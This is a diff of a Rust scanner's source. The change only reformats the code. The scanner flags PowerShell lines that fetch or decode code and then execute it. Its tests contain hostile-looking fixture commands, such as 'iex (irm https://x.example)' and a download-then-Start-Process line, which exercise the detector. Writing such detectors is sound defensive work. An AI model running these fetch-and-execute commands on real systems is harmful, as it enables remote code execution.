@@ -103,7 +103,8 @@ fn signs(line: &str, tainted: &mut BTreeMap<String, SignKind>) -> Vec<SignKind> 
 fn remember(lower: &str, decodes: bool, fetches: bool, tainted: &mut BTreeMap<String, SignKind>) {
     let Some((name, value)) = lower.split_once('=') else { return };
     let name = name.trim();
-    let is_name = name.strip_prefix('$').is_some_and(|name| name.chars().all(|at| at.is_ascii_alphanumeric() || at == '_'));
+    let is_name =
+        name.strip_prefix('$').is_some_and(|name| name.chars().all(|at| at.is_ascii_alphanumeric() || at == '_'));
     let of_other = tainted.iter().find(|(other, _)| names(value, other)).map(|(_, what)| *what);
     let what = match (decodes, fetches) {
         (true, _) => Some(SignKind::DecodesAndRuns),
@@ -178,9 +179,8 @@ mod tests {
 
     fn told(text: &str) -> Vec<String> {
         let told = of_text(text);
-        let programs = told.programs.iter().map(|(path, role, line)| {
-            format!("{line}:{} {role:?}", String::from_utf8_lossy(path))
-        });
+        let programs =
+            told.programs.iter().map(|(path, role, line)| format!("{line}:{} {role:?}", String::from_utf8_lossy(path)));
         programs.chain(told.signs.iter().map(|sign| format!("{}:{:?}", sign.line, sign.what))).collect()
     }
 
@@ -196,7 +196,10 @@ mod tests {
     #[test]
     fn what_runs_what_was_decoded_or_fetched() {
         assert_eq!(told("iex (irm https://x.example)"), ["1:FetchesAndRuns"]);
-        assert_eq!(told("$x = [Convert]::FromBase64String('aGk=')\n$y = d $x\nInvoke-Expression $y"), ["3:DecodesAndRuns"]);
+        assert_eq!(
+            told("$x = [Convert]::FromBase64String('aGk=')\n$y = d $x\nInvoke-Expression $y"),
+            ["3:DecodesAndRuns"]
+        );
         assert_eq!(told("iwr http://x -OutFile a.exe; Start-Process a.exe"), ["1:FetchesAndRuns"]);
         for honest in [
             "Invoke-Expression (&starship init powershell)",
